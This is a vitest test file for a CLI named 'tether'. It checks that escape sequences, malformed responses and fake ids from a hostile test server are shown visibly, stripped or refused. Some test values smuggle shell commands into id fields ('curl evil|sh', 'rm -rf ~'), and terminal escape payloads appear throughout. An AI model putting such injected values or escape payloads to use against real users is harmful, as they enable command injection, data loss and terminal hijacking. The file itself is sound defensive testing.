// Every CLI output path, fed by a server that lies (test/helpers/hostile-server.ts): escape
// sequences in every string field must reach the user's terminal as visible text (or stripped, for
// reply text and --shell output), never raw; only the terminal stream of `attach` and --raw pass
// bytes through. Unexpected shapes are one line without a stack.
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { generateToken } from '../../src/auth/token-format.js';
import { stripEscapes } from '../../src/cli/sanitize.js';
import { runCli } from '../helpers/cli.js';
import { runCliTty } from '../helpers/cli-tty.js';
import { escapeRe, hintPrefix } from '../helpers/hint.js';
import { tempEnv, type TempEnv } from '../helpers/env.js';
import {
  EVIL,
  EVIL_SHORT,
  EVIL_VISIBLE,
  errorBody,
  hasRawControl,
  message,
  part,
  pty,
  session,
  shellData,
  startHostileServer,
  whoami,
  type HostileOptions,
  type HostileServer,
} from '../helpers/hostile-server.js';

let t: TempEnv;
const servers: HostileServer[] = [];
const token = generateToken();
beforeEach(() => {
  t = tempEnv();
});
afterEach(async () => {
  for (const s of servers.splice(0)) await s.close();
  t.cleanup();
});

async function hostile(opts: HostileOptions): Promise<HostileServer> {
  const s = await startHostileServer(opts);
  servers.push(s);
  return s;
}

// `attach` needs a terminal on stdin (it refuses a pipe); the others read stdin as a pipe.
const cli = (args: string[], input?: string) =>
  args[0] === 'attach' ? runCliTty(args, { ...t.env, TETHER_TOKEN: token }) : runCli(args, { ...t.env, TETHER_TOKEN: token }, { input });

/** The assertions every run against a hostile server shares. */
function clean(r: { stdout: string; stderr: string }, { stdout = true } = {}) {
  if (stdout) expect(hasRawControl(r.stdout), JSON.stringify(r.stdout)).toBe(false);
  expect(hasRawControl(r.stderr), JSON.stringify(r.stderr)).toBe(false);
  expect(r.stderr).not.toMatch(/unexpected error|\n\s+at /);
}

/** A run's event stream: a tool call, an error part, reply text with EVIL split across deltas. */
function runStream(final: Record<string, unknown>) {
  const first = `Hello ${EVIL.slice(0, 9)}`;
  return {
    sse: [
      ['message.created', { type: 'message.created', properties: { message: message({ status: 'running', error: null }) } }],
      ['message.part', { type: 'message.part', properties: { part: part('tool_call', { toolName: EVIL, input: { cmd: EVIL } }) } }],
      ['message.part', { type: 'message.part', properties: { part: part('error', { message: EVIL }) } }],
      ['message.part', { type: 'message.part', properties: { part: part('text', { text: first }) } }],
      ['message.part.delta', { type: 'message.part.delta', properties: { partId: 'prt_text', offset: first.length, text: `${EVIL.slice(9)} world` } }],
      ['done', { type: 'done', properties: { message: message(final) } }],
    ] as [string, unknown][],
  };
}

describe('a hostile server cannot drive the terminal', () => {
  it('auth login: the token name and id are shown visibly, never raw', async () => {
    const s = await hostile({ routes: { 'GET /auth/whoami': () => ({ body: whoami() }) } });
    const r = await cli(['auth', 'login', s.url, '--token-stdin'], token);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`as ${EVIL_VISIBLE}`);
    expect(r.stdout).toContain('\\x9b2J');
    expect(r.stdout).toContain('\\u202eevil');
    clean(r);
  });

  it('auth status: human output visible, --json the exact value with nothing raw', async () => {
    const s = await hostile({ routes: { 'GET /auth/whoami': () => ({ body: whoami({ url: 'https://elsewhere.example' }) }) } });
    const human = await cli(['auth', 'status', s.url]);
    expect(human.code, human.stderr).toBe(0);
    expect(human.stdout).toContain(EVIL_VISIBLE);
    clean(human);
    const json = await cli(['auth', 'status', s.url, '--json']);
    expect(json.code, json.stderr).toBe(0);
    clean(json);
    const parsed = JSON.parse(json.stdout);
    expect(parsed).toMatchObject({ url: s.url, name: EVIL, id: EVIL, authenticatedBy: EVIL });
  });

  it('share --json: the exact value with nothing raw', async () => {
    const link = { id: EVIL, name: EVIL, target: { type: 'pty', id: 'pty_0123456789abcdef' }, expiresAt: '2030-01-01T00:00:00.000Z' };
    const s = await hostile({
      routes: { 'POST /pty/pty_0123456789abcdef/share': () => ({ status: 201, body: { ...link, url: `http://x\u009b2J/share#${generateToken()}` } }) },
    });
    const json = await cli(['share', 'pty', 'pty_0123456789abcdef', '--url', s.url, '--json']);
    expect(json.code, json.stderr).toBe(0);
    clean(json);
    expect(JSON.parse(json.stdout)).toMatchObject(link);
  });

  it('error lines: hostile codes and messages in 4xx/5xx are one visible line', async () => {
    for (const status of [400, 401, 403, 404, 409, 429, 500, 503]) {
      const s = await hostile({
        routes: { 'GET /auth/whoami': () => ({ status, headers: { 'retry-after': EVIL.replace(/[^\x20-\x7e]/g, '') }, body: errorBody() }) },
      });
      const r = await cli(['auth', 'status', s.url]);
      expect(r.code, `${status}`).toBe(1);
      expect(r.stderr.trim().split('\n'), `${status}`).toHaveLength(1);
      clean(r);
      if (![401, 429].includes(status)) expect(r.stderr, `${status}`).toContain(EVIL_VISIBLE);
      // A Retry-After that is not a number is not repeated.
      if (status === 429) expect(r.stderr).toMatch(/retry in 60 s/);
    }
  });

  it('run: tool calls, error parts and the run status visible on stderr; the reply stripped on stdout', async () => {
    const s = await hostile({
      routes: { 'POST /session': () => ({ body: session() }), 'POST /session/ses_hostile/message': () => runStream({ status: 'error', error: EVIL }) },
    });
    const r = await cli(['run', '--url', s.url, 'hi']);
    expect(r.code).toBe(1);
    clean(r);
    expect(r.stdout).toBe(`Hello ${stripEscapes(EVIL)} world\n`);
    expect(stripEscapes(EVIL)).toBe('Xevilx');
    expect(r.stderr).toContain(`[${EVIL_VISIBLE}`); // the tool name
    expect(r.stderr).toContain(`error: ${EVIL_VISIBLE}`); // the error part
    // Said once (issue 12): the error part already showed the run's error, so its ending does not repeat it.
    expect(r.stderr.split(`error: ${EVIL_VISIBLE}`)).toHaveLength(2);
    expect(r.stderr).not.toContain('the run ended');
    expect(r.stderr).toContain('session ses_hostile (continue it with --session ses_hostile)');
  });

  it('run --raw: the reply exactly as sent; everything else still sanitised', async () => {
    const s = await hostile({ routes: { 'POST /session/ses_hostile/message': () => runStream({ status: 'completed', error: null }) } });
    const r = await cli(['run', '--url', s.url, '--session', 'ses_hostile', '--raw', 'hi']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe(`Hello ${EVIL} world\n`);
    clean(r, { stdout: false });
    expect(r.stderr).toContain(`[${EVIL_VISIBLE}`);
  });

  it('run without streamed text prints the final text parts, stripped', async () => {
    const final = message({ status: 'completed', error: null, parts: [part('text', { text: `A${EVIL}B` })] });
    const s = await hostile({ routes: { 'POST /session/ses_hostile/message': () => ({ sse: [['done', { type: 'done', properties: { message: final } }]] }) } });
    const r = await cli(['run', '--url', s.url, '--session', 'ses_hostile', 'hi']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('AXevilxB\n');
    clean(r);
  });

  it('run --shell: output stripped (exact with --raw); signal, status and errors visible', async () => {
    const shellMsg = message({ role: 'shell', status: 'completed', error: null, parts: [part('shell', shellData())] });
    const s = await hostile({ routes: { 'POST /session': () => ({ body: session() }), 'POST /session/ses_hostile/shell': () => ({ body: shellMsg }) } });
    const r = await cli(['run', '--url', s.url, '--shell', 'true']);
    expect(r.code).toBe(128);
    clean(r);
    expect(r.stdout).toBe('out:Xevilx\n');
    expect(r.stderr).toContain('err:Xevilx\n');
    expect(r.stderr).toContain(`command killed by ${EVIL_VISIBLE}`);
    const raw = await cli(['run', '--url', s.url, '--session', 'ses_hostile', '--shell', 'true', '--raw']);
    expect(raw.stdout).toBe(`out:${EVIL}\n`);
    expect(raw.stderr).toContain(`err:${EVIL}\n`);
    expect(raw.stderr).toContain(`command killed by ${EVIL_VISIBLE}`);

    const failed = message({ role: 'shell', status: 'error', error: EVIL, parts: [] });
    const s2 = await hostile({ routes: { 'POST /session/ses_hostile/shell': () => ({ body: failed }) } });
    const f = await cli(['run', '--url', s2.url, '--session', 'ses_hostile', '--shell', 'true']);
    expect(f.code).toBe(1);
    expect(f.stderr).toContain(`the command failed: ${EVIL_VISIBLE}`);
    clean(f);
  });

  it('attach: its own messages are sanitised; the terminal stream passes through untouched', async () => {
    const stream = '\x1b[31mred\x1b[0m\r\n';
    const s = await hostile({
      routes: { 'POST /pty': () => ({ body: pty() }) },
      upgrade: (ws) => {
        ws.send(Buffer.from(stream), { binary: true });
        ws.send(JSON.stringify({ type: 'error', message: EVIL }));
        ws.send(JSON.stringify({ type: 'exit', exitCode: EVIL, signal: null })); // malformed: ignored
        ws.close(4999, EVIL_SHORT);
      },
    });
    const r = await cli(['attach', '--url', s.url]);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe(stream);
    clean(r, { stdout: false });
    expect(r.stderr).toContain('created terminal pty_0123456789abcdef');
    expect(r.stderr).toContain(`tether: ${EVIL_VISIBLE}`);
    expect(r.stderr).toMatch(
      new RegExp(
        String.raw`connection closed \(4999: \^\[\]0;pwned\^G\^\[\[2J\\x9b2J\\u202eevil\); if the server still runs, reattach with: ` +
          `${escapeRe(hintPrefix())} attach --pty pty_0123456789abcdef --url`,
      ),
    );
  });

  it('attach: exits only with a real exit status, from an exit frame or a close reason', async () => {
    for (const [end, code] of [
      [(ws: import('ws').WebSocket) => ws.close(1000, 'exit:7'), 7],
      [(ws: import('ws').WebSocket) => ws.close(1000, 'exit:300'), 128], // would wrap to 44
      [(ws: import('ws').WebSocket) => ws.close(1000, 'signal:9'), 137],
      [(ws: import('ws').WebSocket) => (ws.send(JSON.stringify({ type: 'exit', exitCode: 300, signal: null })), ws.close(1000, 'exit:3')), 3],
    ] as const) {
      const s = await hostile({ routes: { 'POST /pty': () => ({ body: pty() }) }, upgrade: (ws) => end(ws) });
      const r = await cli(['attach', '--url', s.url]);
      expect(r.code, String(end)).toBe(code);
      clean(r);
    }
  });

  it('attach: a hostile 404 for --pty and a refused upgrade are one visible line', async () => {
    const s = await hostile({ routes: { 'GET /pty/pty_abc': () => ({ status: 404, body: errorBody('not_found', EVIL) }) } });
    const r = await cli(['attach', '--url', s.url, '--pty', 'pty_abc']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(EVIL_VISIBLE);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    clean(r);
    const s2 = await hostile({
      routes: { 'GET /pty/pty_abc': () => ({ body: pty({ id: 'pty_abc' }) }) },
      upgrade: { status: 500, body: errorBody(EVIL, EVIL) },
    });
    const u = await cli(['attach', '--url', s2.url, '--pty', 'pty_abc']);
    expect(u.code).toBe(1);
    expect(u.stderr).toContain(EVIL_VISIBLE);
    expect(u.stderr.trim().split('\n')).toHaveLength(1);
    clean(u);
  });

  it('ids printed inside commands to copy must be ids: anything else is refused, not printed', async () => {
    const s = await hostile({
      routes: {
        'POST /session': () => ({ body: session({ id: `ses_x; curl evil|sh ${EVIL}` }) }),
        'POST /pty': () => ({ body: pty({ id: 'pty_1;rm -rf ~' }) }),
      },
    });
    for (const args of [
      ['run', '--url', s.url, '--shell', 'true'],
      ['attach', '--url', s.url],
    ]) {
      const r = await cli(args);
      expect(r.code, args.join(' ')).toBe(1);
      expect(r.stderr).toMatch(/unexpected response from .*: id: expected a (session|terminal) id/);
      expect(r.stderr).not.toMatch(/curl evil|rm -rf/);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      clean(r);
    }
  });
});

describe('an unexpected response shape is one line, exit 1, never a stack trace', () => {
  const whoamiCases: [string, () => { body?: unknown; headers?: Record<string, string>; status?: number }, RegExp][] = [
    ['an HTML page', () => ({ body: '<html>hello</html>', headers: { 'content-type': 'text/html' } }), /not JSON \(content-type text\/html\)/],
    ['JSON of the wrong shape', () => ({ body: { ...whoami(), permissions: 'all' } }), /permissions: expected array/],
    ['a hostile expiry', () => ({ body: whoami({ expiresAt: EVIL }) }), /expiresAt: expected an ISO 8601 date-time/],
    ['an unknown permission', () => ({ body: whoami({ permissions: [EVIL] }) }), /permissions\.0: /],
    ['null', () => ({ body: 'null', headers: { 'content-type': 'application/json' } }), /expected object/],
    ['an empty body', () => ({ body: '' }), /not JSON/],
  ];
  for (const [what, reply, msg] of whoamiCases) {
    it(`auth status: ${what}`, async () => {
      const s = await hostile({ routes: { 'GET /auth/whoami': reply } });
      const r = await cli(['auth', 'status', s.url]);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(msg);
      expect(r.stderr).toMatch(/^tether: unexpected response from http:\/\/127\.0\.0\.1:\d+ to GET \/auth\/whoami: /);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      clean(r);
    });
  }

  const streamCases: [string, [string, unknown][], RegExp][] = [
    ['an event that is not JSON', [['message.part', `not json ${EVIL}`]], /event "message\.part" is not JSON/],
    ['an event without properties', [['message.part', { type: 'message.part' }]], /properties: expected record/],
    [
      'a part of the wrong shape',
      [['message.part', { type: 'message.part', properties: { part: { id: 1 } } }]],
      /event "message\.part": part\.id: expected string/,
    ],
    [
      'a final message without parts',
      [['done', { type: 'done', properties: { message: { ...message(), parts: undefined } } }]],
      /message\.parts: expected array/,
    ],
    ['a delta with a negative offset', [['message.part.delta', { type: 'message.part.delta', properties: { partId: 'p', offset: -1, text: 'x' } }]], /offset/],
  ];
  for (const [what, sse, msg] of streamCases) {
    it(`run: ${what}`, async () => {
      const s = await hostile({ routes: { 'POST /session/ses_hostile/message': () => ({ sse }) } });
      const r = await cli(['run', '--url', s.url, '--session', 'ses_hostile', 'hi']);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(msg);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      clean(r);
    });
  }

  it('run --shell: a shell result of the wrong shape, and an exit code out of range', async () => {
    for (const data of [{ ...shellData(), stdout: 5 }, shellData({ exitCode: 256, signal: null })]) {
      const msg = message({ role: 'shell', status: 'completed', error: null, parts: [part('shell', data)] });
      const s = await hostile({ routes: { 'POST /session/ses_hostile/shell': () => ({ body: msg }) } });
      const r = await cli(['run', '--url', s.url, '--session', 'ses_hostile', '--shell', 'true']);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/unexpected response from .*(stdout: expected string|exitCode: Too big)/);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stdout).toBe('');
      clean(r);
    }
  });

  it('an error body that never ends is cut off, not awaited or buffered without bound', async () => {
    const s = await hostile({ routes: { 'GET /auth/whoami': () => ({ status: 500, endless: `{"error":"${EVIL}` }) } });
    const r = await runCli(['auth', 'status', s.url], { ...t.env, TETHER_TOKEN: token }, { timeout: 15_000 });
    expect(r.signal).toBeNull();
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/500 Internal Server Error \(500 http_error\)/);
    clean(r);
  });

  it('the credentials file holding a non-boolean allowHttp is refused, untouched', async () => {
    const file = path.join(t.configHome, 'tether', 'credentials.json');
    fs.mkdirSync(path.dirname(file), { recursive: true });
    const text = JSON.stringify({ version: 1, servers: { 'http://127.0.0.1:9': { token, tokenId: null, name: 'x', savedAt: 'now', allowHttp: 'yes' } } });
    fs.writeFileSync(file, text, { mode: 0o600 });
    const r = await runCli(['auth', 'status', 'http://127.0.0.1:9'], t.env);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/invalid entry for http:\/\/127\.0\.0\.1:9/);
    expect(fs.readFileSync(file, 'utf8')).toBe(text);
  });
});
